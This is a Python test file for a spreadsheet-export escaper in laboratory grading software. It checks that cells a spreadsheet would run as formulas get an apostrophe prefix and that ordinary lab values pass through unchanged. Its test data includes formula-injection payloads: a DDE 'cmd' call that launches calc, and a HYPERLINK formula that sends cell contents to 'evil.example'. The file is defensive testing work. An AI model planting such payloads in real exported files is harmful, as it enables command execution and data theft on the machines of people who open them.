"""What of a text in a CSV a spreadsheet would run, and what laboratories write that it must not be
taken for.
"""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toxgrade.spreadsheet import CANDIDATE, NUMBER, from_cell, to_cell, to_row

_AS_THEY_ARE = [
    # numbers
    "1.8", "-1.5", "+3", "-5", "-.5", "+1,5", "-1,234.5", "-1 234,5", "-1.5e-3", "+2E+6", "- 5",
    "-5%", " -5 ", "\N{FULLWIDTH HYPHEN-MINUS}5", "<0.1", ">=1000", "1e-5", "1-2", "−3",
    # texts of signs: urine strips, "not done", a missing value
    "-", "+", "--", "++", "+++", "++++", "+/-", "-/-", "+ +", "- - -", "(+)", "±",
    # dates and times, names, units, words
    "2011-04-23", "2011-04-23T14:45+02:00", "P-12", "a@b.example", "10*9/L", "U/L", "x=y", "%", "",
    "neg.", "ALT (SGPT)", "see note; repeat", "A;B", "A; -5", "first\nsecond", "O'Brien",
    "'quoted'", '"quoted"', "AB0+", "Rh-", "HBsAg -", "Bili - total",
]  # fmt: skip

_CHANGED = {
    "=1+1": "'=1+1",
    "=cmd|' /C calc'!A1": "'=cmd|' /C calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1;"ALT")': '\'=HYPERLINK("http://evil.example/?"&A1;"ALT")',
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "+cmd|' /C calc'!A1": "'+cmd|' /C calc'!A1",
    "-cmd|' /C calc'!A1": "'-cmd|' /C calc'!A1",
    "-1+cmd|' /C calc'!A1": "'-1+cmd|' /C calc'!A1",  # it begins as a number
    "-5-10": "'-5-10",  # it would be computed: -15
    "+1-2": "'+1-2",
    "=": "'=",
    "=5": "'=5",
    "-A": "'-A",
    "-5 U/L": "'-5 U/L",
    "- negative": "'- negative",
    "+++ 300": "'+++ 300",
    "-inf": "'-inf",
    # before it: blanks, quotation marks, control characters, what is not seen
    " =1": "' =1",
    "\u00a0=1": "'\u00a0=1",
    '"=1"': '\'"=1"',
    '" =1': "'\" =1",
    "\x00=1": "'\x00=1",
    "\ufeff=1": "'\ufeff=1",
    "\u200b@a": "'\u200b@a",
    # full-width forms
    "\uff1d1+1": "'\uff1d1+1",
    "\uff0bA1": "'\uff0bA1",
    "\uff0dA1": "'\uff0dA1",
    "\uff20SUM": "'\uff20SUM",
    # tabs and line breaks
    "\tALT": "'\tALT",
    "\rALT": "'\rALT",
    "\nALT": "'\nALT",
    "\t=1": "'\t'=1",
    "line\n=1": "line\n'=1",
    "line\r\n=1": "line\r\n'=1",
    # after a semicolon a cell begins where it is the separator of lists
    "a;=1": "a;'=1",
    "a; @b": "a;' @b",
    "a;-5;+b;-": "a;-5;'+b;-",
    # an apostrophe is there already: with one more, no two texts become one
    "'=1": "''=1",
    "''-A": "'''-A",
    "'\tALT": "''\tALT",
}


@pytest.mark.parametrize("text", _AS_THEY_ARE)
def test_what_no_spreadsheet_runs_stays_byte_for_byte(text: str) -> None:
    assert to_cell(text) == text


@pytest.mark.parametrize(("text", "cell"), _CHANGED.items())
def test_what_a_spreadsheet_would_run_stands_behind_an_apostrophe(text: str, cell: str) -> None:
    assert to_cell(text) == cell


@given(st.text(st.sampled_from("'\"=+-@;\t\r\n 1aA.,/\uff1d\x00\u200b\u2003"), max_size=12))
def test_every_text_is_found_again(text: str) -> None:
    """And polars' patterns find each text that is changed."""
    cell = to_cell(text)
    assert from_cell(cell) == text
    if cell != text:
        assert re.search(CANDIDATE, text)
        assert re.search(CANDIDATE, cell)
        assert not re.search(NUMBER, text)


@given(st.lists(st.text(max_size=8), min_size=2, max_size=2, unique=True))
def test_no_two_texts_become_one(texts: list[str]) -> None:
    assert to_cell(texts[0]) != to_cell(texts[1])


@given(st.text(st.sampled_from("=+-@;\t\r\n \"'1a,\uff0b"), max_size=10))
def test_no_cell_is_a_formula_however_a_line_is_divided(text: str) -> None:
    for part in re.split(r"[;\t\r\n]", to_cell(text)):
        bare = part.replace('"', "").strip()
        calls_nothing = re.fullmatch(r"[+\-\uff0b/ ]+|[+\-\uff0b][0-9., ]+", bare)
        assert bare[:1] not in tuple("=+-@\uff0b") or calls_nothing


def test_numbers_and_what_is_missing_are_no_texts() -> None:
    assert to_row([-1.5, None, "-1.5", "=x", True]) == [-1.5, None, "-1.5", "'=x", True]


@pytest.mark.parametrize(
    "text",
    ["+" + " " * 200_000 + "x", "=;" * 100_000, "'" * 200_000 + "=", "-" + "1 " * 100_000 + "x"],
)
def test_a_long_text_takes_no_longer_than_its_length(text: str) -> None:
    assert from_cell(to_cell(text)) == text
